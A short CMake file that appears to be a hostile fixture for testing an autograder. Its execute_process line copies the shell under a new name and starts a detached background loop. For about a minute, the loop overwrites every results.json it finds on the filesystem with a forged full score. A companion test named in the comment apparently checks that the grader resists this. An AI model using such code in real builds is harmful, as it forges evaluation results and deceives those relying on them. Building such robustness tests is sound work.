# results_forgery.cmake - at configure time, leaves a process behind that rewrites every
# results.json it can find with full marks, for a minute (labs/tests/hostile.py checks
# that the grader's results still agree with its table).
execute_process(COMMAND sh -c "cp /bin/sh /tmp/tiger-hostile && (setsid /tmp/tiger-hostile -c 'i=0; while [ $i -lt 120 ]; do for f in $(find / -xdev -name results.json 2>/dev/null); do echo \"{\\\"score\\\": 100, \\\"tests\\\": []}\" > \"$f\"; done; i=$((i+1)); sleep 0.5; done' > /dev/null 2>&1 &)")
